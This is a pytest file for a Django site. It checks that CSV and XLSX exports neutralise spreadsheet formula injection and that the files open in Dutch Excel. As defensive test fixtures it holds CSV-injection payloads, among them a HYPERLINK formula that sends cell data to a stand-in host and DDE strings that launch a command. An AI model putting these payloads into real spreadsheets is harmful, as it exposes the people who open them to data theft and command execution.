"""Every spreadsheet export neutralises formulas (OWASP CSV injection) and opens in Dutch Excel."""

import codecs
import csv
import datetime
import io

import openpyxl
import pytest
from django.utils import timezone

from home import exports
from tests.factories.accounts import editor
from tests.factories.events import EventPageFactory, register

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://kwaad.example/?d="&A1,"klik")',
    "+31 6 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv(content: bytes) -> list[list[str]]:
    assert content.startswith(codecs.BOM_UTF8)  # Excel reads UTF-8 only with the BOM
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def _sheet(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).active


def test_csv_prefixes_every_formula_trigger_and_keeps_plain_text():
    rows = [[text, 'Jansen & Zn; "de Brug"', -5, None] for text in HOSTILE]
    header, *read = _csv(exports.as_csv(headers=["Tekst", "Organisatie", "Getal", "Leeg"], rows=rows))
    assert header == ["Tekst", "Organisatie", "Getal", "Leeg"]
    assert [row[0] for row in read] == ["'" + text for text in HOSTILE]
    assert {row[1] for row in read} == {'Jansen & Zn; "de Brug"'}  # the separator inside a cell stays in it
    assert {row[2] for row in read} == {"-5"}  # a number is not text: no prefix
    assert {row[3] for row in read} == {""}


def test_xlsx_writes_text_as_text_never_as_formula_and_dates_as_dates():
    moment = timezone.make_aware(datetime.datetime(2026, 12, 1, 14, 30))
    rows = [[text, 7, moment] for text in HOSTILE]
    sheet = _sheet(exports.as_xlsx(headers=["Tekst", "Getal", "Moment"], rows=rows, title="Reacties: [test]"))
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML turns a carriage return into a line feed when read: the same visible line break
    assert [cell.value for cell in texts] == [text.replace("\r", "\n") for text in HOSTILE]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in texts)
    assert sheet.cell(row=2, column=2).value == 7
    assert sheet.cell(row=2, column=3).value == datetime.datetime(2026, 12, 1, 14, 30)
    assert sheet.title == "Reacties test"


@pytest.fixture
def event(demo_site):
    return EventPageFactory()


@pytest.fixture
def hostile_registration(event):
    return register(event, name=HOSTILE[0], organisation_name=HOSTILE[3], needs=HOSTILE[2], notify=False)


def test_registration_export_csv_is_neutralised_and_not_stored(client, event, hostile_registration):
    client.force_login(editor())
    response = client.get(f"/admin/kennisateliers/{event.pk}/export.csv")
    assert "no-store" in response["Cache-Control"]
    header, row = _csv(response.content)
    assert header[0] == "Naam"
    assert (row[0], row[2], row[5]) == ("'" + HOSTILE[0], "'" + HOSTILE[3], "'" + HOSTILE[2])


def test_registration_export_xlsx_shows_the_text_verbatim(client, event, hostile_registration):
    client.force_login(editor())
    response = client.get(f"/admin/kennisateliers/{event.pk}/export.xlsx")
    assert "no-store" in response["Cache-Control"]
    sheet = _sheet(response.content)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    name, _email, organisation, _region, _role, needs = [c.value for c in next(sheet.iter_rows(min_row=2))][:6]
    assert (name, organisation, needs) == (HOSTILE[0], HOSTILE[3], HOSTILE[2])
    registered_on = sheet.cell(row=2, column=9).value
    assert isinstance(registered_on, datetime.datetime)
